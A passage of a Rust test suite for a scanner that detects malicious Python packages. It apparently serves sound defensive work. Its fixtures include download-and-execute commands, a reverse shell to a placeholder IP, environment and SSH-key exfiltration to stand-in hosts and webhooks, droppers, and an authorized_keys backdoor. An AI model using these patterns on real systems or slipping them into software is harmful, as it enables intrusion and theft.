        report.findings.iter().find(|f| f.rule == "download-then-run").map(|f| f.severity)
    };
    let level = |src: &str| level_in("setup.py", src);
    for cmd in [
        "wget 203.0.113.9/agent && chmod +x agent && nohup ./agent &",
        "curl -sL http://203.0.113.9/a -o /tmp/a; chmod 755 /tmp/a; /tmp/a",
        "cmd /c curl -o %TEMP%\\\\u.exe http://203.0.113.9/u.exe && start %TEMP%\\\\u.exe",
    ] {
        let src = format!("import os\nfrom setuptools import setup\nos.system(\"{cmd}\")\nsetup(name='x')\n");
        assert_eq!(level(&src), Some(Severity::Critical), "{src}");
        // Built in a variable first, and started from a function a caller calls.
        let asked =
            format!("import subprocess\nCMD = \"{cmd}\"\ndef install():\n    subprocess.call(CMD, shell=True)\n");
        assert_eq!(level_in("pkg/tool.py", &asked), Some(Severity::High), "{asked}");
    }
    for benign in [
        "wget -q -O - http://203.0.113.9/version.txt",
        "wget https://example.org/data.tar.gz && tar xzf data.tar.gz",
        "chmod +x build.sh && ./build.sh",
    ] {
        let src = format!("import os\nos.system(\"{benign}\")\n");
        assert_eq!(level(&src), None, "{src}");
    }
}

/// A request to this machine's own address (a local model server it
/// started) sends nothing off the computer: not exfiltration, whatever its
/// arguments carry. The same request to an address elsewhere, or to one of
/// two addresses of which one is elsewhere, stays critical. Written for the
/// test.
#[test]
fn what_is_sent_to_this_machine_does_not_leave_it() {
    let exfiltration = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "x.py", bytes: src.as_bytes() }]);
        report.findings.iter().filter(|f| f.rule == "exfiltration").map(|f| f.severity).max()
    };
    let local = "import os, requests\nenv = os.environ.copy()\nport = start(env)\n\
                 base = f'http://localhost:{port}/v1'\nrequests.post(f'{base}/models', json=dict(os.environ))\n";
    assert_eq!(exfiltration(local), None, "{local}");
    let loopback_ip = "import os, requests\nrequests.post('http://127.0.0.1:8080/log', data=dict(os.environ))\n";
    assert_eq!(exfiltration(loopback_ip), None);
    let elsewhere = local.replace("http://localhost:{port}/v1", "https://collector.example.invalid/{port}");
    assert_eq!(exfiltration(&elsewhere), Some(Severity::Critical), "{elsewhere}");
    let either = local.replace(
        "base = f'http://localhost:{port}/v1'",
        "base = f'http://localhost:{port}/v1' if port else 'https://collector.example.invalid'",
    );
    assert_eq!(exfiltration(&either), Some(Severity::Critical), "{either}");
    // A placeholder `0.0.0.0` is not this machine's address.
    let placeholder = loopback_ip.replace("127.0.0.1", "0.0.0.0");
    assert_eq!(exfiltration(&placeholder), Some(Severity::Critical));
}

/// `self.send(path)` hands `path` to the method `send` of the file's class:
/// a credential store read there and posted to an address written in the
/// code is exfiltration, as with a plain function. A Telegram session file
/// (`f"{name}.session"`) is such a store. Written for the test.
#[test]
fn arguments_reach_the_methods_a_class_calls_through_self() {
    let exfiltration = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/client.py", bytes: src.as_bytes() }]);
        report.findings.iter().filter(|f| f.rule == "exfiltration").map(|f| f.severity).max()
    };
    let class = "import os, requests\nHOOK = 'https://collector.example.invalid/up'\nclass Spy:\n    \
                 def run(self):\n        self._send_file(STORE)\n    \
                 def _send_file(self, path):\n        with open(path, 'rb') as f:\n            \
                 requests.post(HOOK, files={'document': f})\n";
    for store in ["os.path.expanduser('~/.ssh/id_rsa')", "f'{self.name}.session'"] {
        let src = class.replace("STORE", store);
        assert_eq!(exfiltration(&src), Some(Severity::Critical), "{src}");
    }
    // A file the class names that is no store; and a module path that ends in `.session`.
    for other in ["'report.txt'", "'sqlalchemy.orm.session'"] {
        let src = class.replace("STORE", other);
        assert_eq!(exfiltration(&src), None, "{src}");
    }
}

/// Code handed to another interpreter from a variable (`['python3', '-c',
/// CODE]`) is read like code written in the argument list; a script with
/// no extension that Python runs (`#!/usr/bin/env python`, what
/// `setup(scripts=[...])` installs) is read like a `.py` file. Written for
/// the test.
#[test]
fn code_run_by_python_c_from_a_variable_and_extensionless_scripts_are_read() {
    let rules = |path: &str, src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
        report.findings.iter().map(|f| f.rule).collect::<Vec<_>>()
    };
    let shell = "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\n\
                 os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n";
    let setup = format!("import subprocess\nCODE = '''\n{shell}'''\nsubprocess.Popen(['python3', '-c', CODE])\n");
    assert!(rules("setup.py", &setup).contains(&"reverse-shell"), "{:?}", rules("setup.py", &setup));
    let script = "#!/usr/bin/env python\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
    assert!(rules("scripts/tool", script).contains(&"exec-decoded"), "{:?}", rules("scripts/tool", script));
    // A shell script, and a data file with a dot in its name, are not Python.
    let sh = script.replace("#!/usr/bin/env python", "#!/bin/sh");
    assert!(!rules("scripts/tool", &sh).contains(&"exec-decoded"));
    assert!(!rules("scripts/tool.txt", script).contains(&"exec-decoded"));
}

/// A program carried as data, decoded, written under an executable's name
/// and started in the same function is a dropper: critical while the
/// module loads, high when a caller asks. Decoded data written to a file
/// that is no program, or a program started in another function, is not.
/// Written for the test.
#[test]
fn a_decoded_program_written_and_started_is_a_dropper() {
    let level = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/__init__.py", bytes: src.as_bytes() }]);
        report.findings.iter().find(|f| f.rule == "decoded-dropper").map(|f| f.severity)
    };
    let body = "import base64, zlib, os, subprocess, tempfile\nBLOB = 'eJwLycgsVgCiRIWS1OISAC0wBYk='\n\
                def drop():\n    data = zlib.decompress(base64.b64decode(BLOB))\n    \
                path = os.path.join(tempfile.gettempdir(), 'svc' + '.exe')\n    \
                with open(path, 'wb') as f:\n        f.write(data)\n    subprocess.Popen(path)\n";
    assert_eq!(level(body), Some(Severity::High), "{body}");
    assert_eq!(level(&format!("{body}drop()\n")), Some(Severity::Critical));
    let image = body.replace("'svc' + '.exe'", "'logo' + '.png'");
    assert_eq!(level(&image), None, "{image}");
    let apart = body.replace("    subprocess.Popen(path)\n", "def start(p):\n    subprocess.Popen(p)\n");
    assert_eq!(level(&apart), None, "{apart}");
}

/// Who runs the code sent to an address decoded at run time is high even
/// when a caller asks: the code hides where it reports. To an address
/// written out, on request, it stays a medium note. Written for the test.
#[test]
fn host_identity_sent_to_a_hidden_address_is_high() {
    let level = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/net.py", bytes: src.as_bytes() }]);
        report.findings.iter().filter(|f| f.rule == "host-identity-sent").map(|f| f.severity).max()
    };
    let hidden = "import base64, socket, requests\ndef report():\n    ip = socket.gethostbyname(socket.gethostname())\n    \
                  requests.post(base64.b64decode(b'aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS5pbnZhbGlkL3NldA==').decode(), json={'ip': ip})\n";
    assert_eq!(level(hidden), Some(Severity::High), "{hidden}");
    let written = "import socket, requests\ndef report():\n    ip = socket.gethostbyname(socket.gethostname())\n    \
                   requests.post('https://telemetry.example.invalid/set', json={'ip': ip})\n";
    assert_eq!(level(written), Some(Severity::Medium), "{written}");
}

/// A method called on a name the file never binds (`re.split(p, x)`, with
/// `re` from a star import) stores nothing in a variable of the file: what
/// it was given does not come back out of `re.compile(...)` elsewhere. A
/// list the file binds still holds what is appended to it. Written for the
/// test.
#[test]
fn a_name_the_file_never_binds_is_no_container_of_its_own() {
    let rules = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/core.py", bytes: src.as_bytes() }]);
        report.findings.iter().filter(|f| f.severity >= Severity::High).map(|f| f.rule).collect::<Vec<_>>()
    };
    let unbound = "from helpers import *\nimport base64\n\
                   def key(blob):\n    dep = base64.b64decode(blob).decode()\n    return re.split(',', dep)[0]\n\
                   def clone(url):\n    pat = re.compile('x')\n    subprocess.run(['git', 'clone', url, pat.pattern])\n";
    assert!(!rules(unbound).contains(&"process-decoded"), "{:?}", rules(unbound));
    let bound = "import base64, subprocess\nparts = []\n\
                 def key(blob):\n    parts.append(base64.b64decode(blob).decode())\n\
                 def clone():\n    subprocess.run(parts)\n";
    assert!(rules(bound).contains(&"process-decoded"), "{:?}", rules(bound));
    // A class the file defines is one of its names too.
    let class = "import base64, subprocess\nclass Box:\n    pass\n\
                 def key(blob):\n    Box.put(base64.b64decode(blob).decode())\n\
                 def clone():\n    subprocess.run(Box.cmd)\n";
    assert!(rules(class).contains(&"process-decoded"), "{:?}", rules(class));
}

/// `self.write(x)` calls the `write` of the class it is in: another class's
/// method of the same name is another function, and does not receive `x`.
/// Written for the test.
#[test]
fn self_calls_reach_the_method_of_their_own_class() {
    let rules = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/io.py", bytes: src.as_bytes() }]);
        report.findings.iter().filter(|f| f.severity >= Severity::High).map(|f| f.rule).collect::<Vec<_>>()
    };
    let other = "import base64, subprocess\nclass Encoder:\n    def write(self, data):\n        self.size = len(data)\n    \
                 def emit(self, blob):\n        self.write(base64.b64decode(blob))\n\
                 class Runner:\n    def write(self, cmd):\n        subprocess.run(cmd)\n";
    assert!(!rules(other).contains(&"process-decoded"), "{:?}", rules(other));
    let own = format!("{other}    def go(self, blob):\n        self.write(base64.b64decode(blob))\n");
    assert!(rules(&own).contains(&"process-decoded"), "{:?}", rules(&own));
}

/// A process's `env=` is the environment the child runs with: the lines it
/// prints, sent on, are not that environment. The environment itself sent
/// stays exfiltration. Both front-ends (the second source is Python 2).
/// Written for the test.
#[test]
fn a_childs_environment_is_not_what_the_child_prints() {
    let exfiltration = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "x.py", bytes: src.as_bytes() }]);
        report.findings.iter().filter(|f| f.rule == "exfiltration").map(|f| f.severity).max()
    };
    for py2 in ["", "print 'streaming'\n"] {
        let output = format!(
            "import os, subprocess, requests\n{py2}def run(cmd):\n    task = subprocess.Popen(cmd, stdout=subprocess.PIPE, env=os.environ)\n    \
             for line in task.stdout:\n        requests.post('https://logs.example.invalid/in', data=line)\n"
        );
        assert_eq!(exfiltration(&output), None, "{output}");
        let environment = output.replace("data=line", "data=str(os.environ)");
        assert_eq!(exfiltration(&environment), Some(Severity::Critical), "{environment}");
    }
}

/// A token in a request's `headers=` authenticates the request, even from a
/// script's module level (an inventory script calling its cloud's API); the
/// same token in the body, or sent while the package installs, or to a
/// webhook, stays exfiltration. Written for the test.
#[test]
fn a_token_in_a_header_authenticates_a_request() {
    let exfiltration = |path: &str, src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
        report.findings.iter().filter(|f| f.rule == "exfiltration").map(|f| f.severity).max()
    };
    let header = "import os, requests\napi_token = os.getenv('CLOUD_API_TOKEN')\n\
                  headers = {'Authorization': 'Bearer ' + api_token}\n\
                  r = requests.get('https://api.cloud.example/v2/servers', headers=headers, timeout=60)\nprint(r.json())\n";
    assert_eq!(exfiltration("inventory.py", header), Some(Severity::Medium), "{header}");
    // The response does not hold the headers: the next page's address,
    // read from it, carries no secret (both front-ends).
    for py2 in ["", "print 'paging'\n"] {
        let pages = format!(
            "{py2}{}",
            header.replace(
                "print(r.json())\n",
                "nxt = r.json()['links']['next']\nr = requests.get(nxt, headers=headers, timeout=60)\n"
            )
        );
        assert_eq!(exfiltration("inventory.py", &pages), Some(Severity::Medium), "{pages}");
    }
    let body = header.replace("headers=headers,", "headers=headers, data=api_token,");
    assert_eq!(exfiltration("inventory.py", &body), Some(Severity::Critical), "{body}");
    assert_eq!(exfiltration("setup.py", header), Some(Severity::Critical), "{header}");
    let webhook = header.replace("https://api.cloud.example/v2/servers", "https://discord.com/api/webhooks/1/x");
    assert_eq!(exfiltration("inventory.py", &webhook), Some(Severity::Critical), "{webhook}");
}

/// A program the package carries, copied into the temporary folder and
/// started with no window in the same function, is a dropper: high when a
/// caller asks, critical at import. Started where it is, or with its
/// window, it is a tool's helper. Written for the test.
#[test]
fn a_bundled_program_copied_to_temp_and_started_hidden_is_a_dropper() {
    let dropper = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "tool/__init__.py", bytes: src.as_bytes() }]);
        report.findings.iter().find(|f| f.rule == "hidden-dropper").map(|f| f.severity)
    };
    let src = "import os, shutil, subprocess, tempfile\n\
               def start(here):\n    target = os.path.join(tempfile.gettempdir(), 'helper.exe')\n    \
               shutil.copy(os.path.join(here, 'bin', 'helper.exe'), target)\n    \
               subprocess.Popen(target, creationflags=subprocess.CREATE_NO_WINDOW)\n";
    assert_eq!(dropper(src), Some(Severity::High), "{src}");
    let at_import = format!("{src}start(os.path.dirname(__file__))\n");
    assert_eq!(dropper(&at_import), Some(Severity::Critical), "{at_import}");
    let shown = src.replace(", creationflags=subprocess.CREATE_NO_WINDOW", "");
    assert_eq!(dropper(&shown), None, "{shown}");
    let in_place = src.replace("tempfile.gettempdir()", "here");
    assert_eq!(dropper(&in_place), None, "{in_place}");
}

/// A public key written in the code, appended to `authorized_keys`, gives
/// its author a login: high on request, critical at import. A key the
/// caller passes in is a key manager's job. Written for the test.
#[test]
fn a_key_of_its_own_added_to_authorized_keys_is_a_backdoor() {
    let backdoor = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "tool/keys.py", bytes: src.as_bytes() }]);
        report.findings.iter().find(|f| f.rule == "persistence-ssh-key").map(|f| f.severity)
    };
    let src = "from pathlib import Path\n\
               def enable():\n    key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleKeyWrittenForTheTest team'\n    \
               path = Path.home() / '.ssh' / 'authorized_keys'\n    with open(path, 'a') as f:\n        f.write(key + '\\n')\n";
    assert_eq!(backdoor(src), Some(Severity::High), "{src}");
    let at_import = format!("{src}enable()\n");
    assert_eq!(backdoor(&at_import), Some(Severity::Critical), "{at_import}");
    let given = src.replace(
        "def enable():\n    key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleKeyWrittenForTheTest team'",
        "def enable(key):",
    );
    assert_eq!(backdoor(&given), None, "{given}");
}

/// A `maketrans` table of a few characters written out escapes or renames
/// them (a shell-escaped path); a table of an alphabet is a cipher. Only the
/// second hides where a file is written. Both front-ends. Written for the
/// test.
#[test]
fn an_escaping_table_hides_nothing_a_cipher_does() {
    let hidden = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "x.py", bytes: src.as_bytes() }]);
        report.findings.iter().any(|f| f.rule == "hidden-destination")
    };
    for py2 in ["", "print 'saving'\n"] {
        let escaped = format!(
            "import os\n{py2}def save(name, data):\n    p = name.translate(str.maketrans({{' ': '\\\\ '}}))\n    \
             with open(os.path.join(os.path.expanduser('~'), p), 'wb') as f:\n        f.write(data)\n"
        );
        assert!(!hidden(&escaped), "{escaped}");
        let cipher = escaped.replace("{' ': '\\\\ '}", "'abcdefghijklm', 'nopqrstuvwxyz'");
        assert!(hidden(&cipher), "{cipher}");
    }
}

/// A compiled regular expression matches other text: what built the
/// pattern (constants from bytes reversed for endianness) is not in what
/// it matches. The matched text evaluated is the caller's input (medium);
/// the reversed bytes evaluated themselves stay hidden code. Both
/// front-ends. Written for the test.
#[test]
fn a_pattern_built_from_decoded_constants_does_not_decode_what_it_matches() {
    let level = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "lenient/loader.py", bytes: src.as_bytes() }]);
        report.findings.iter().filter(|f| f.rule.starts_with("exec")).map(|f| f.severity).max()
    };
    for py2 in ["", "print 'loading'\n"] {
        let src = format!(
            "import re, struct\n{py2}RAW = bytes.fromhex('7FF80000000000007FF0000000000000')[::-1]\n\
             NAN, INF = struct.unpack('dd', RAW)\nCONSTANTS = {{'NaN': NAN, 'Infinity': INF}}\n\
             CONSTANT_RE = re.compile('(%s)' % '|'.join(CONSTANTS))\n\
             def scan(text, pos):\n    m = CONSTANT_RE.match(text, pos)\n    return eval(m.string[m.pos:m.end()])\n"
        );
        assert_eq!(level(&src), Some(Severity::Medium), "{src}");
        let hidden = src.replace("eval(m.string[m.pos:m.end()])", "eval(RAW)");
        assert!(level(&hidden) >= Some(Severity::High), "{hidden}");
    }
}

/// What a process runs is its command. A sandbox runner that writes the
/// caller's base64 input to the child's stdin file, or an installer that
/// starts a tool in the folder it downloaded, runs no decoded or downloaded
/// command. Decoded text fed to an interpreter's stdin is code, though.
/// Both front-ends. Written for the test.
#[test]
fn a_process_command_is_not_its_stdin_or_folder() {
    let runner = "import base64, subprocess, tempfile\ndef run(req):\n    \
                  with tempfile.TemporaryFile() as stdin:\n        \
                  stdin.write(base64.b64decode(req['stdin']))\n        \
                  return subprocess.Popen(req['argv'], stdin=stdin, stdout=subprocess.PIPE)\n";
    let installer = "import subprocess, urllib.request\ndef setup(url):\n    \
                     folder = urllib.request.urlopen(url).read().decode()\n    \
                     subprocess.call(['make'], cwd=folder)\n";
    let piped = "import base64, subprocess, sys\nCODE = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='\ndef go():\n    \
                 subprocess.run([sys.executable, '-'], input=base64.b64decode(CODE))\n";
    for tail in ["", "print 'py2'\n"] {
        let runner = format!("{runner}{tail}");
        assert_eq!(severity_of("sandbox/_exec.py", &runner, "process-decoded"), None, "{runner}");
        let installer = format!("{installer}{tail}");
        assert_eq!(severity_of("tool/install.py", &installer, "process-decoded"), None, "{installer}");
        let piped = format!("{piped}{tail}");
        assert_eq!(severity_of("tool/go.py", &piped, "process-decoded"), Some(Severity::Critical), "{piped}");
        // The same decoded text given as the command is one.
        let command = runner.replace("req['argv'], stdin=stdin", "base64.b64decode(req['argv'])");
        assert_eq!(severity_of("sandbox/_exec.py", &command, "process-decoded"), Some(Severity::Critical), "{command}");
    }
}

/// `x if cond else y` carries x or y, never the condition: a probe of the
/// public index made only when the environment names no mirror sends
/// nothing of the environment. Both front-ends. Written for the test.
#[test]
fn a_conditional_value_does_not_carry_its_condition() {
    let probe = "import os, urllib.request\ndef probe():\n    config = dict(os.environ)\n    \
                 urls = [] if config['PIP_MIRROR'] else ['https://pypi.org/simple/']\n    \
                 for url in urls:\n        urllib.request.urlopen(url)\n";
    for tail in ["", "print 'py2'\n"] {
        let src = format!("{probe}{tail}");
        assert_eq!(severity_of("tool/probe.py", &src, "exfiltration"), None, "{src}");
        // The environment in the value itself is still sent.
        let sent = src.replace(
            "[] if config['PIP_MIRROR'] else ['https://pypi.org/simple/']",
            "['https://collect.example.net/?e=' + str(config)] if config else []",
        );
        assert!(severity_of("tool/probe.py", &sent, "exfiltration").is_some(), "{sent}");
    }
}

/// A program named in the code and given decoded arguments shows what it
/// runs: a cloud SDK decodes its registry's base64 login token and hands
/// the password to `docker login` when its caller pulls an image. Decoded
/// from what the service handed over, that is data in transport encoding,
/// like a download given to a named program: medium (it was high until the
/// thirteenth session, which judged it as exec of caller-decoded code had
/// been judged in the twelfth; sagemaker-serve). A file that also decodes a
/// string written in it hides something of its own: high. The same while
/// the module loads, a decoded command line, or decoded arguments to an
/// interpreter, hide what runs (critical). Both front-ends. Written for the
/// test.
#[test]
fn decoded_arguments_to_a_named_program_are_not_a_hidden_command() {
    let login = "import base64, subprocess\ndef pull(ecr, image):\n    \
                 token = base64.b64decode(ecr.get_authorization_token()['token']).decode()\n    \
                 user, password = token.split(':')\n    \
                 cmd = [\n        'docker', 'login', '-u', user, '-p', password, image]\n    \
                 subprocess.run(cmd, check=True)\n";
    for tail in ["", "print 'py2'\n"] {
        let src = format!("{login}{tail}");
        let report = scan(&ManifestFacts::default(), &[Entry { path: "sdk/local.py", bytes: src.as_bytes() }]);
        let f = report.findings.iter().find(|f| f.rule == "process-decoded").expect("decoded arguments");
        assert_eq!(f.severity, Severity::Medium, "{f:#?}");
        assert!(f.message.contains("`docker`"), "{f:#?}");
        // Written in the call, the same.
        let inline =
            src.replace("subprocess.run(cmd, check=True)", "subprocess.run(['docker', 'login', '-p', password])");
        assert_eq!(severity_of("sdk/local.py", &inline, "process-decoded"), Some(Severity::Medium), "{inline}");
        // A file that decodes a constant of its own carries something hidden.
        let carried = format!("{src}REGISTRY = base64.b64decode('cmVnaXN0cnkuZXhhbXBsZS5vcmc=')\n");
        assert_eq!(severity_of("sdk/local.py", &carried, "process-decoded"), Some(Severity::High), "{carried}");
        // An interpreter runs its decoded argument as code.
        let python = src.replace("'docker', 'login', '-u', user, '-p', password, image", "'python', '-c', password");
        assert_eq!(severity_of("sdk/local.py", &python, "process-decoded"), Some(Severity::Critical), "{python}");
        // The whole command decoded, or the shell given it: hidden.
        let whole = src.replace("subprocess.run(cmd, check=True)", "subprocess.run(token, shell=True)");
        assert_eq!(severity_of("sdk/local.py", &whole, "process-decoded"), Some(Severity::Critical), "{whole}");
        // While the module loads: the package's own act.
        let now = format!("{src}pull(ECR, 'x')\n")
            .replace("def pull(ecr, image):\n    ", "if True:\n    ")
            .replace("ecr.get_authorization_token()", "ECR.get_authorization_token()");
        assert_eq!(severity_of("sdk/local.py", &now, "process-decoded"), Some(Severity::Critical), "{now}");
    }
}

/// A chat bot whose token the code writes out, beside the bot API's
/// address, belongs to the package's author: a library function that posts
/// what its caller hands it there relays the caller's data to the author
/// (high). A bot library takes its user's token and sends where its user
/// says. Both front-ends. The token is made up for the test, in the shape
/// of a Telegram bot's. Written for the test.
#[test]
fn data_sent_to_a_bot_whose_token_is_written_in_the_code_goes_to_its_author() {
    let token = format!("{}:{}", "1234567890", "AAE".to_owned() + &"x".repeat(32));
    let relay = format!(
        "import requests\nclass Notify:\n    def __init__(self):\n        self.token = '{token}'\n        \
         self.chat = '99887766'\n    def send(self, message):\n        \
         url = f'https://api.telegram.org/bot{{self.token}}/sendMessage'\n        \
         requests.post(url, params={{'chat_id': self.chat, 'text': message}})\n"
    );
    let library = "import requests\nclass Bot:\n    def __init__(self, token):\n        self.token = token\n    \
                   def send(self, chat, message):\n        \
                   url = 'https://api.telegram.org/bot%s/sendMessage' % self.token\n        \
                   requests.post(url, params={'chat_id': chat, 'text': message})\n";
    for tail in ["", "print 'py2'\n"] {
        let src = format!("{relay}{tail}");
        assert_eq!(severity_of("notify/core.py", &src, "exfiltration"), Some(Severity::High), "{src}");
        let src = format!("{library}{tail}");
        assert_eq!(severity_of("bot/core.py", &src, "exfiltration"), None, "{src}");
    }
}

/// An install command that fetches the package's dependencies itself and
/// imports one runs that package's code as this one installs (a typosquat
/// handing over to its dependency): high. Fetching them without importing
/// any, or importing the build tools, runs nothing of theirs. Both
/// front-ends. Written for the test.
#[test]
fn an_install_command_that_fetches_and_imports_a_dependency_runs_it() {
    let setup = "from setuptools import setup\nfrom setuptools.command.install import install\n\
                 class Post(install):\n    def run(self):\n        \
                 self.distribution.fetch_build_eggs(self.distribution.install_requires)\n        \
                 self.after()\n        install.run(self)\n    def after(self):\n        \
                 import helperlib\n        helperlib.Start()\n\
                 setup(name='x', cmdclass={'install': Post}, install_requires=['helperlib'])\n";
    for tail in ["", "print 'py2'\n"] {
        let src = format!("{setup}{tail}");
        let report = scan(&ManifestFacts::default(), &[Entry { path: "setup.py", bytes: src.as_bytes() }]);
        let f = report.findings.iter().find(|f| f.rule == "download-then-run").expect("fetched and imported");
        assert_eq!(f.severity, Severity::High, "{f:#?}");
        assert!(f.because.iter().any(|b| b.contains("`helperlib`")), "{f:#?}");
        let fetch_only = src.replace("import helperlib\n        helperlib.Start()", "import setuptools\n        pass");
        assert_eq!(severity_of("setup.py", &fetch_only, "download-then-run"), None, "{fetch_only}");
        // Not a file that runs while installing.
        assert_eq!(severity_of("pkg/commands.py", &src, "download-then-run"), None, "{src}");
    }
}

/// A file uploaded (`files=`) to a raw IP, a paste site, a webhook or a
/// tunnel goes where the author reads it, sent by `requests` or by a client
/// object (`httpx.AsyncClient().post`), with the address written in the
/// call or kept in a module variable: high. The same upload to an ordinary
/// address is a client's work. Both front-ends. Written for the test.
#[test]
fn a_file_uploaded_to_an_authors_host_is_exfiltration() {
    let client = "import httpx\nCHECK = 'http://203.0.113.7:8000/check'\nasync def check(path):\n    \
                  async with httpx.AsyncClient(timeout=30) as client:\n        \
                  with open(path, 'rb') as f:\n            \
                  await client.post(CHECK, files={'file': (path, f)})\n";
    for tail in ["", "print 'py2'\n"] {
        let src = format!("{client}{tail}");
        assert_eq!(severity_of("lib/core.py", &src, "exfiltration"), Some(Severity::High), "{src}");
        let ordinary = src.replace("http://203.0.113.7:8000/check", "https://api.example.org/check");
        assert_eq!(severity_of("lib/core.py", &ordinary, "exfiltration"), None, "{ordinary}");
        let hook = src.replace("http://203.0.113.7:8000/check", "https://discord.com/api/webhooks/1/x");
        assert_eq!(severity_of("lib/core.py", &hook, "exfiltration"), Some(Severity::High), "{hook}");
    }
}

/// Code a file carries base64-encoded and runs at import is critical while
/// what it does is hidden. Kept in a variable (`SRC = b64decode(SRC_B64)`)
/// it is decoded and read too; when everything the file decodes was read
/// and nothing in it is above medium (a tool shipping its own encoded
/// source), the hiding is for a reviewer (high). A payload that does harm,
/// or one beside a constant that decodes to neither code nor text (a
/// cipher's input), stays critical. Both front-ends. Written for the test.
#[test]
fn encoded_code_the_scanner_has_read_is_judged_by_what_it_does() {
    use base64::Engine;
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    let carrier = |code: &str| {
        format!(
            "import base64\nSRC_B64 = '{}'\nSRC = base64.b64decode(SRC_B64.encode('ascii'))\nexec(SRC.decode(), globals())\n",
            b64(code)
        )
    };
    let quiet = carrier("def version():\n    return open('VERSION').read().strip()\n");
    let harmful =
        carrier("import os, requests\nrequests.post('https://discord.com/api/webhooks/1/x', data=dict(os.environ))\n");
    let beside = format!(
        "{quiet}KEY = base64.b64decode('{}')\n",
        b64("\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{7}\u{8}\u{b}\u{c}\u{e}\u{f}\u{10}\u{11}\u{12}\u{13}")
    );
    for tail in ["", "print 'py2'\n"] {
        let src = format!("{quiet}{tail}");
        let report = scan(&ManifestFacts::default(), &[Entry { path: "tool/carrier.py", bytes: src.as_bytes() }]);
        let f = report.findings.iter().find(|f| f.rule == "exec-decoded").expect("runs decoded code");
        assert_eq!(f.severity, Severity::High, "{f:#?}");
        assert!(f.because.iter().any(|b| b.starts_with("read:")), "{f:#?}");
        let src = format!("{harmful}{tail}");
        assert_eq!(severity_of("tool/carrier.py", &src, "exec-decoded"), Some(Severity::Critical), "{src}");
        assert_eq!(severity_of("tool/carrier.py", &src, "exfiltration"), Some(Severity::Critical), "{src}");
        let src = format!("{beside}{tail}");
        assert_eq!(severity_of("tool/carrier.py", &src, "exec-decoded"), Some(Severity::Critical), "{src}");
    }
}

/// A module name decoded in a file that carries encoded constants, or
/// decoded while it loads, hides what it imports (high). One decoded from
/// what a caller hands over, when asked (a worker pool unpickling which
/// installer to import), names an installed module: for a reviewer
/// (medium). Both front-ends. Written for the test.
#[test]
fn a_module_name_decoded_from_what_a_caller_hands_over_is_for_a_reviewer() {
    let worker = "import base64, importlib, pickle\ndef work(blob):\n    \
                  for p in pickle.loads(base64.b64decode(blob)):\n        \
                  importlib.import_module(p.module).install(p.data)\n";
    let hidden = "import base64\nKEY = base64.b64decode('c2VjcmV0a2V5MTIz')\ndef go(blob):\n    \
                  m = __import__(base64.b64decode(blob).decode())\n    m.call('id')\n";
    let loading = "import base64, importlib\nmod = importlib.import_module(base64.b64decode(NAME).decode())\n";
    for tail in ["", "print 'py2'\n"] {
        let src = format!("{worker}{tail}");
        assert_eq!(severity_of("pool/worker.py", &src, "import-dynamic"), Some(Severity::Medium), "{src}");
        let src = format!("{hidden}{tail}");
        assert_eq!(severity_of("pool/worker.py", &src, "import-dynamic"), Some(Severity::High), "{src}");
        let src = format!("{loading}{tail}");
        assert_eq!(severity_of("pool/worker.py", &src, "import-dynamic"), Some(Severity::High), "{src}");
    }
}

/// A queue's `put` hands an item to another thread or process of the same
/// program; an HTTP client's `put` names its URL and sends data there. A
/// process manager queueing a message that holds the environment sends
/// nothing out. Both front-ends. Written for the test.
#[test]
fn a_queue_put_is_not_a_network_send() {
    let queued = "import os\ndef announce(events):\n    \
                  events.put({'type': 'start', 'env': dict(os.environ)}, timeout=1)\n";
    let uploaded = "import os\ndef announce(session):\n    \
                    session.put('https://collect.example.net/env', data=dict(os.environ))\n";
    for tail in ["", "print 'py2'\n"] {
        let src = format!("{queued}{tail}");
        assert_eq!(severity_of("proc/manager.py", &src, "exfiltration"), None, "{src}");
        let src = format!("{uploaded}{tail}");
        assert!(severity_of("proc/manager.py", &src, "exfiltration") >= Some(Severity::High), "{src}");
    }
}

/// A launcher decodes its host list (base64 JSON on its command line),
/// starts one worker per local device and hands each its rank in the
/// environment: the count of decoded entries and the environment are not
/// the command. Decoded text in the command itself still is. Both
/// front-ends. Written for the test.
#[test]
fn a_count_of_decoded_entries_and_the_environment_are_not_the_command() {
    let launcher = "import base64, json, os, subprocess, sys\ndef main(arg, script):\n    \
                    hosts = json.loads(base64.urlsafe_b64decode(arg))\n    \
                    env = os.environ.copy()\n    env['DEVICES'] = ','.join(hosts['local'])\n    \
                    for rank in range(len(hosts['local'])):\n        \
                    cmd = [sys.executable, '-u', script, '--rank={}'.format(rank)]\n        \
                    subprocess.Popen(cmd, env=env)\n";
    for tail in ["", "print 'py2'\n"] {
        let src = format!("{launcher}{tail}");
        assert_eq!(severity_of("launcher/launch.py", &src, "process-decoded"), None, "{src}");
        let decoded = src.replace("'--rank={}'.format(rank)", "hosts['cmd']");
        assert!(severity_of("launcher/launch.py", &decoded, "process-decoded").is_some(), "{decoded}");
    }
}

/// A comprehension's loop variable is its own (Python 3): a module that
/// splits its API keys with `[url.strip() for url in KEYS]` has not put the
/// keys in the module's `url`, which it later fetches a logo from. A `for`
